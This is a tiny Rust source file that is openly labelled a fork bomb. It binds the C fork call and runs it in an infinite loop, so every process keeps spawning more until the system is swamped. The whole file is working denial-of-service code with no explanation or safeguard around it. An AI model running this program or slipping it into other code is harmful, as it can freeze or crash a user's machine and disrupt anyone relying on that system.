// tries: every process forks, again and again
// ends: swarmed
// left: nobody
//! A fork bomb.

unsafe extern "C" {
    safe fn fork() -> i32;
}

fn main() {
    loop {
        fork();
    }
}
